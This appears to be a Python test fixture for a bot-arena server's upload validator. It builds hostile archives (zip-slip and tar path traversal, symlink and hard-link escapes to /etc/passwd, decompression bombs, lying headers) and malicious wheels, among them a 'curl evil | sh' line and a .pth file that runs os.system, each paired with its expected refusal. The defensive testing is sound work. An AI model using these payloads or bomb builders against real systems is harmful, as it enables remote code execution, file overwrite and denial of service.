"""Hostile uploads as data: each writes its file into a directory and returns (path, the
file name it is sent as); the status and a fragment of the message it must be refused with.

tests/test_server_uploads.py unpacks each with arena.server.uploads.unpack; the server's
HTTP tests send the same files. Give each case a directory of its own (the file is
`upload.bin` in it); the cases that aim outside the destination aim at `escaped.txt` beside
it and at `abs-escaped.txt` in the case directory's parent. Archives that zipfile and
tarfile will not write (a header lying about its size, a symbolic link's mode, an encrypted
member) are written byte by byte.
"""

from __future__ import annotations

import functools
import gzip
import hashlib
import stat
import struct
import tarfile
import warnings
import zipfile
import zlib
from base64 import urlsafe_b64encode
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

MiB = 1 << 20
GiB = 1 << 30

Build = Callable[[Path], tuple[Path, str]]


@dataclass(frozen=True)
class Hostile:
    """One hostile upload: how to write it, and how it must be refused."""

    name: str
    build: Build
    status: int
    message: str


# ---- writers


def write_zip(where: Path, filename: str, members: list[tuple[str, bytes]]) -> tuple[Path, str]:
    """A zip of members (name, data), deflated, as zipfile writes it."""
    path = where / "upload.bin"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of a duplicate name, which is the point of one case
        for name, data in members:
            zf.writestr(name, data)
    return path, filename


@dataclass
class RawMember:
    """A zip member written byte by byte: its header may say what its data is not."""

    name: str
    data: bytes  # as stored (compressed when method is 8)
    size: int  # the uncompressed size the headers declare
    crc: int = 0
    method: int = 8
    flags: int = 0
    mode: int = stat.S_IFREG | 0o644


def deflated(data: bytes) -> bytes:
    """data as a raw deflate stream, as a zip member holds it."""
    packer = zlib.compressobj(6, zlib.DEFLATED, -zlib.MAX_WBITS)
    return packer.compress(data) + packer.flush()


def write_raw_zip(where: Path, filename: str, members: list[RawMember], extra_entries: int = 0) -> tuple[Path, str]:
    """A zip whose headers say what each RawMember says; extra_entries more directory entries
    point at the first member's data (the overlap of a non-recursive zip bomb)."""
    body, central = bytearray(), bytearray()
    entries = []
    for member in members:
        entries.append((member, member.name, len(body)))
        body += _header(b"PK\x03\x04", member, member.name)
        body += member.data
    entries += [(members[0], f"copy{i}-{members[0].name}", 0) for i in range(extra_entries)]
    for member, name, offset in entries:
        central += _header(b"PK\x01\x02", member, name, offset)
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(central), len(body), 0)
    path = where / "upload.bin"
    path.write_bytes(bytes(body + central + end))
    return path, filename


def _header(signature: bytes, member: RawMember, name: str, offset: int | None = None) -> bytes:
    """A local header (offset None) or a directory entry of member, zip64 sizes when it claims 4 GiB or more."""
    encoded = name.encode("utf-8")
    big = member.size >= 0xFFFFFFFF
    extra = struct.pack("<HHQQ", 1, 16, member.size, len(member.data)) if big else b""
    version = 45 if big else 20
    fields = (member.flags | 0x800, member.method, 0, 0x21, member.crc,
              *((0xFFFFFFFF, 0xFFFFFFFF) if big else (len(member.data), member.size)), len(encoded), len(extra))
    if offset is None:
        return struct.pack("<4sHHHHHIIIHH", signature, version, *fields) + encoded + extra
    return struct.pack("<4sHHHHHHIIIHHHHHII", signature, 0x0300 | version, version, *fields, 0, 0, 0,
                       member.mode << 16, offset) + encoded + extra


def raw(name: str, data: bytes, **header: int) -> RawMember:
    """A RawMember of data deflated, its headers honest unless header says otherwise."""
    fields = {"size": len(data), "crc": zlib.crc32(data)} | header
    return RawMember(name, deflated(data), **fields)


@dataclass
class TarMember:
    """A tar member: its header (type, size, link) and the data that follows."""

    name: str
    data: bytes = b""
    type: bytes = tarfile.REGTYPE
    linkname: str = ""
    size: int | None = None  # the size the header declares; len(data) when None


def write_tgz(where: Path, filename: str, members: list[TarMember], cut: int | None = None) -> tuple[Path, str]:
    """A gzip-compressed tar (GNU format) of members; cut keeps only that many bytes of the tar."""
    tar = bytearray()
    for member in members:
        info = tarfile.TarInfo(member.name)
        info.type, info.linkname, info.mode = member.type, member.linkname, 0o644
        info.size = len(member.data) if member.size is None else member.size
        tar += info.tobuf(format=tarfile.GNU_FORMAT)
        if member.type in (tarfile.REGTYPE, tarfile.AREGTYPE):
            tar += member.data + b"\0" * (-len(member.data) % 512)
    tar += b"\0" * 1024
    path = where / "upload.bin"
    path.write_bytes(gzip.compress(bytes(tar if cut is None else tar[:cut]), mtime=0))
    return path, filename


def write_tgz_of_zeros(where: Path, filename: str, size: int, type: bytes = tarfile.REGTYPE) -> tuple[Path, str]:
    """A tar.gz of one member of size zero bytes (a file, or a pax header tarfile reads whole
    into memory), compressed as it streams."""
    path = where / "upload.bin"
    with gzip.open(path, "wb", compresslevel=6) as out:
        info = tarfile.TarInfo("zeros.bin")
        info.size, info.type = size, type
        out.write(info.tobuf(format=tarfile.GNU_FORMAT))
        for _ in range(size // MiB):
            out.write(bytes(MiB))
        out.write(b"\0" * 1024)
    return path, filename


@functools.lru_cache(maxsize=2)
def zeros_deflated(size: int) -> bytes:
    """size zero bytes as a raw deflate stream (200 MB in about 200 kB)."""
    packer = zlib.compressobj(6, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = bytes(MiB)
    return b"".join(packer.compress(block) for _ in range(size // MiB)) + packer.flush()


def zeros_crc(size: int) -> int:
    """The CRC-32 of size zero bytes, as an honest header gives it."""
    crc, block = 0, bytes(MiB)
    for _ in range(size // MiB):
        crc = zlib.crc32(block, crc)
    return crc


# ---- wheels

PLUGIN = b'"""A plugin module; the server never imports it."""\nraise SystemExit("imported!")\n'
ENTRY_POINTS = "[arena]\ntiny = arena_tiny\n"


def wheel_files(name: str = "arena_tiny", version: str = "0.1.0", entry_points: str = ENTRY_POINTS,
                requires: tuple[str, ...] = ("bot-arena",), extra: dict[str, bytes] | None = None) -> dict[str, bytes]:
    """The files of a wheel of a one-module plugin (RECORD is added by write_wheel)."""
    info = f"{name}-{version}.dist-info"
    metadata = f"Metadata-Version: 2.1\nName: {name.replace('_', '-')}\nVersion: {version}\n"
    metadata += "".join(f"Requires-Dist: {r}\n" for r in requires)
    files = {
        f"{name}.py": PLUGIN,
        f"{info}/METADATA": metadata.encode(),
        f"{info}/WHEEL": b"Wheel-Version: 1.0\nGenerator: hostile.py\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        f"{info}/entry_points.txt": entry_points.encode(),
        f"{info}/top_level.txt": name.encode() + b"\n",
    }
    return files | (extra or {})


def record_of(files: dict[str, bytes], name: str = "arena_tiny", version: str = "0.1.0") -> str:
    """RECORD for files: path, sha256 in urlsafe base64, size; RECORD itself without a hash."""
    rows = [f"{path},sha256={urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()},{len(data)}"
            for path, data in files.items()]
    return "\n".join(rows + [f"{name}-{version}.dist-info/RECORD,,"]) + "\n"


def write_wheel(where: Path, files: dict[str, bytes], record: str | None = None,
                filename: str = "arena_tiny-0.1.0-py3-none-any.whl") -> tuple[Path, str]:
    """A wheel of files and their RECORD (or the RECORD given)."""
    record = record_of(files) if record is None else record
    return write_zip(where, filename, [*files.items(), ("arena_tiny-0.1.0.dist-info/RECORD", record.encode())])


def _wheel(**change: object) -> Build:
    """A builder of the plugin's wheel with one thing changed (wheel_files' arguments)."""
    return lambda where: write_wheel(where, wheel_files(**change))


def _lying_record(where: Path) -> tuple[Path, str]:
    files = wheel_files()
    record = record_of(files)
    files["arena_tiny.py"] = PLUGIN + b"import os; os.system('curl evil | sh')\n"
    return write_wheel(where, files, record)


def _unlisted(where: Path) -> tuple[Path, str]:
    files = wheel_files()
    record = record_of(files)
    files["arena_tiny_extra.py"] = b"print('not in RECORD')\n"
    return write_wheel(where, files, record)


# ---- the cases


def plain(filename: str, data: bytes) -> Build:
    """A builder of one file of data sent as filename."""
    def build(where: Path) -> tuple[Path, str]:
        path = where / "upload.bin"
        path.write_bytes(data)
        return path, filename
    return build


HOSTILE: list[Hostile] = [
    # leaving the directory
    Hostile("zip-slip", lambda w: write_zip(w, "bot.zip", [("bot.py", b"x"), ("../escaped.txt", b"x")]),
            400, "'..' component"),
    Hostile("zip-slip-nested", lambda w: write_zip(w, "bot.zip", [("bot/../../escaped.txt", b"x")]),
            400, "'..' component"),
    Hostile("zip-absolute", lambda w: write_zip(w, "bot.zip", [(str(w.parent / "abs-escaped.txt"), b"x")]),
            400, "absolute path"),
    Hostile("tar-slip", lambda w: write_tgz(w, "bot.tar.gz", [TarMember("../escaped.txt", b"x")]),
            400, "'..' component"),
    Hostile("tar-absolute", lambda w: write_tgz(w, "bot.tgz", [TarMember(str(w.parent / "abs-escaped.txt"), b"x")]),
            400, "absolute path"),
    Hostile("zip-backslash", lambda w: write_raw_zip(w, "bot.zip", [raw("..\\escaped.txt", b"x")]),
            400, "backslash"),
    Hostile("zip-drive-letter", lambda w: write_zip(w, "bot.zip", [("C:/escaped.txt", b"x")]),
            400, "drive letter"),
    # links and special files
    Hostile("tar-symlink-out", lambda w: write_tgz(w, "bot.tar.gz", [
        TarMember("out", type=tarfile.SYMTYPE, linkname=str(w.parent)),
        TarMember("out/escaped.txt", b"through the link")]), 400, "symbolic link"),
    Hostile("zip-symlink-out", lambda w: write_raw_zip(w, "bot.zip", [
        raw("out", b"../..", mode=stat.S_IFLNK | 0o777), raw("out/escaped.txt", b"x")]), 400, "symbolic link"),
    Hostile("tar-hard-link", lambda w: write_tgz(w, "bot.tgz", [
        TarMember("passwd", type=tarfile.LNKTYPE, linkname="/etc/passwd")]), 400, "hard link"),
    Hostile("tar-char-device", lambda w: write_tgz(w, "bot.tgz", [
        TarMember("bot.py", b"x"), TarMember("null", type=tarfile.CHRTYPE)]), 400, "character device"),
    Hostile("tar-block-device", lambda w: write_tgz(w, "bot.tgz", [TarMember("sda", type=tarfile.BLKTYPE)]),
            400, "block device"),
    Hostile("tar-fifo", lambda w: write_tgz(w, "bot.tgz", [TarMember("pipe", type=tarfile.FIFOTYPE)]),
            400, "FIFO"),
    Hostile("zip-fifo-mode", lambda w: write_raw_zip(w, "bot.zip", [raw("pipe", b"", mode=stat.S_IFIFO | 0o644)]),
            400, "FIFO"),
    # sizes: never trusting the headers
    Hostile("zip-bomb-lying-header", lambda w: write_raw_zip(w, "bot.zip", [
        RawMember("zeros.bin", zeros_deflated(200 * MiB), size=1000, crc=0)]), 413, "1000 bytes its header declares"),
    Hostile("zip-bomb-ratio", lambda w: write_raw_zip(w, "bot.zip", [
        RawMember("zeros.bin", zeros_deflated(50 * MiB), size=50 * MiB, crc=zeros_crc(50 * MiB))]),
        413, "100 times its compressed size"),
    Hostile("zip-claims-10-gb", lambda w: write_raw_zip(w, "bot.zip", [raw("huge.bin", b"small", size=10 * GiB)]),
            413, "declares 10 GiB"),
    Hostile("zip-overlapping-members", lambda w: write_raw_zip(w, "bot.zip", [raw("a.txt", b"x" * 1000)],
                                                               extra_entries=3), 400, "overlap"),
    Hostile("tar-claims-10-gb", lambda w: write_tgz(w, "bot.tgz", [TarMember("huge.bin", b"small", size=10 * GiB)]),
            413, "declares 10 GiB"),
    Hostile("tar-bomb", lambda w: write_tgz_of_zeros(w, "bot.tgz", 60 * MiB), 413, "100 times its compressed size"),
    Hostile("tar-pax-header-bomb", lambda w: write_tgz_of_zeros(w, "bot.tgz", 60 * MiB, tarfile.XHDTYPE),
            413, "tar headers take more than"),
    Hostile("zip-directory-of-100000-entries", lambda w: _directory_only(w, 100_000),
            413, "100000 entries in its directory"),
    Hostile("too-many-files", lambda w: write_zip(w, "bot.zip", [(f"f{i}.txt", b"") for i in range(501)]),
            413, "500 files"),
    Hostile("upload-too-large", plain("bot.py", b"#" * (8 * MiB + 1)), 413, "cap on an upload"),
    # names
    Hostile("upload-name-dotdot", plain("../bot.py", b"print(1)\n"), 400, "'..' component"),
    Hostile("upload-name-nul", plain("bot\x00.py", b"print(1)\n"), 400, "control or unprintable character ('\\x00')"),
    Hostile("upload-name-newline", plain("bot\n.py", b"print(1)\n"), 400, "control or unprintable character ('\\n')"),
    Hostile("member-name-newline", lambda w: write_zip(w, "bot.zip", [("bot\n.py", b"x")]),
            400, "control or unprintable character"),
    Hostile("member-name-rtl-override", lambda w: write_zip(w, "bot.zip", [("bot\u202eyp.exe", b"x")]),
            400, "control or unprintable character"),
    Hostile("too-deep", lambda w: write_zip(w, "bot.zip", [("d/" * 16 + "bot.py", b"x")]),
            400, "deeper than 16 directories"),
    Hostile("too-long-name", lambda w: write_zip(w, "bot.zip", [("b" * 98 + ".py", b"x")]),
            400, "longer than 100 characters"),
    Hostile("duplicate-member", lambda w: write_zip(w, "bot.zip", [("bot.py", b"x"), ("bot.py", b"y")]),
            400, "twice"),
    Hostile("case-only-duplicate", lambda w: write_zip(w, "bot.zip", [("Bot.py", b"x"), ("bot.py", b"y")]),
            400, "differ only in case"),
    Hostile("unicode-normalization-duplicate", lambda w: write_zip(w, "bot.zip", [
        ("caf\u00e9.py", b"x"), ("cafe\u0301.py", b"y")]), 400, "differ only in case or Unicode normalization"),
    Hostile("file-and-directory", lambda w: write_tgz(w, "bot.tgz", [TarMember("a", b"x"), TarMember("a/b", b"y")]),
            400, "both a file and a directory"),
    # kinds and content
    Hostile("png-named-zip", plain("bot.zip", b"\x89PNG\r\n\x1a\n" + bytes(64)),
            415, "not a zip archive (it is a PNG image)"),
    Hostile("zip-named-tgz", lambda w: write_zip(w, "bot.tgz", [("bot.py", b"x")]),
            415, "not a gzip-compressed tar archive (it is a zip archive)"),
    Hostile("zip-named-py", lambda w: write_zip(w, "bot.py", [("bot.py", b"x")]), 415, "is a zip archive"),
    Hostile("rar-archive", plain("bot.rar", b"Rar!\x1a\x07\x00"), 415, "this kind of archive is not taken"),
    Hostile("bzip2-member", lambda w: _bzip2_zip(w), 415, "method 12"),
    Hostile("truncated-zip", lambda w: _truncated_zip(w), 400, "corrupt or truncated zip"),
    Hostile("zip-directory-offset-lies", lambda w: _patched_zip(w, -6, "<I", lambda v: v + 1000),
            400, "starts before the archive does"),
    Hostile("zip-version-from-the-future", lambda w: _patched_zip(w, None, "<H", lambda v: 99),
            400, "zip file version 9.9"),
    Hostile("corrupt-deflate", lambda w: write_raw_zip(w, "bot.zip", [
        RawMember("bot.py", b"\xff" * 64, size=100)]), 400, "corrupt"),
    Hostile("tgz-without-its-gzip-end", lambda w: _cut(write_tgz(w, "bot.tgz", [TarMember("bot.py", b"x")]), 8),
            400, "corrupt or truncated tar.gz"),
    Hostile("truncated-tgz", lambda w: write_tgz(w, "bot.tgz", [TarMember("bot.py", b"x" * 5000)], cut=2048),
            400, "corrupt or truncated tar.gz"),
    Hostile("encrypted-member", lambda w: write_raw_zip(w, "bot.zip", [raw("bot.py", b"x", flags=1)]),
            400, "encrypted"),
    Hostile("empty-zip", lambda w: write_zip(w, "bot.zip", []), 400, "empty archive"),
    Hostile("empty-tgz", lambda w: write_tgz(w, "bot.tgz", []), 400, "empty archive"),
    Hostile("directories-only-zip", lambda w: write_zip(w, "bot.zip", [("src/", b"")]), 400, "empty archive"),
    Hostile("empty-upload", plain("bot.py", b""), 400, "the upload is empty"),
    # wheels
    Hostile("wheel-console-script", _wheel(entry_points=ENTRY_POINTS + "[console_scripts]\nls = arena_tiny:main\n"),
            400, "console_scripts"),
    Hostile("wheel-gui-script", _wheel(entry_points=ENTRY_POINTS + "[gui_scripts]\nls = arena_tiny:main\n"),
            400, "gui_scripts"),
    Hostile("wheel-pth-file", _wheel(extra={"zzz.pth": b"import os; os.system('id')\n"}), 400, ".pth file"),
    Hostile("wheel-data-scripts", _wheel(extra={"arena_tiny-0.1.0.data/scripts/ls": b"#!/bin/sh\nid\n"}),
            400, ".data directory"),
    Hostile("wheel-record-lies", _lying_record, 400, "does not match its hash in the wheel's RECORD"),
    Hostile("wheel-file-not-in-record", _unlisted, 400, "not listed in the wheel's RECORD"),
    Hostile("wheel-missing-requirement", _wheel(requires=("bot-arena", "numpy-does-not-exist>=1")),
            400, "numpy-does-not-exist>=1 (not installed)"),
    Hostile("wheel-no-arena-entry-point", _wheel(entry_points="[pytest11]\ntiny = arena_tiny\n"),
            400, "no `arena` entry point"),
    Hostile("wheel-for-python-2", lambda w: write_wheel(w, wheel_files(), filename="arena_tiny-0.1.0-py2-none-any.whl"),
            415, "cannot load"),
]


def _bzip2_zip(where: Path) -> tuple[Path, str]:
    path = where / "upload.bin"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_BZIP2) as zf:
        zf.writestr("bot.py", b"print(1)\n" * 100)
    return path, "bot.zip"


def _patched_zip(where: Path, at: int | None, form: str, change: Callable[[int], int]) -> tuple[Path, str]:
    """A zip of one member with a field changed: at bytes from the end (the end record's
    directory offset is at -6) or, at None, the directory entry's version needed to extract."""
    path, filename = write_zip(where, "bot.zip", [("bot.py", b"print(1)\n")])
    data = bytearray(path.read_bytes())
    offset = len(data) + at if at is not None else data.index(b"PK\x01\x02") + 6
    (value,) = struct.unpack_from(form, data, offset)
    struct.pack_into(form, data, offset, change(value))
    path.write_bytes(bytes(data))
    return path, filename


def _directory_only(where: Path, entries: int) -> tuple[Path, str]:
    """A zip of one empty member and a directory of entries, each naming it."""
    member = RawMember("a", b"", size=0, method=0)
    local = _header(b"PK\x03\x04", member, "a")
    central = _header(b"PK\x01\x02", member, "a", 0) * entries
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, len(central), len(local), 0)
    path = where / "upload.bin"
    path.write_bytes(local + central + end)
    return path, "bot.zip"


def _cut(written: tuple[Path, str], tail: int) -> tuple[Path, str]:
    """The upload written, without its last tail bytes (a gzip stream's CRC and length are 8)."""
    path, filename = written
    path.write_bytes(path.read_bytes()[:-tail])
    return path, filename


def _truncated_zip(where: Path) -> tuple[Path, str]:
    path, filename = write_zip(where, "bot.zip", [("bot.py", bytes(range(256)) * 64), ("more.py", b"y" * 5000)])
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    return path, filename


def accepted_zip_of_cpp_bot(where: Path) -> tuple[Path, str]:
    """A C++ bot with a Makefile and a run script, as a participant zips it."""
    path = where / "upload.bin"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("cpp-bot/", b"")
        zf.writestr("cpp-bot/Makefile", b"bot: bot.cpp util.h\n\tg++ -O2 -o bot bot.cpp\n")
        zf.writestr("cpp-bot/bot.cpp", b'#include "util.h"\nint main() { return 0; }\n')
        zf.writestr("cpp-bot/util.h", b"#pragma once\n")
        zf.writestr("cpp-bot/build/.keep", b"")
        run = zipfile.ZipInfo("cpp-bot/run.sh")
        run.external_attr = (stat.S_IFREG | 0o755) << 16
        run.create_system = 3
        zf.writestr(run, b"#!/bin/sh\nexec ./bot\n")
    return path, "cpp-bot.zip"
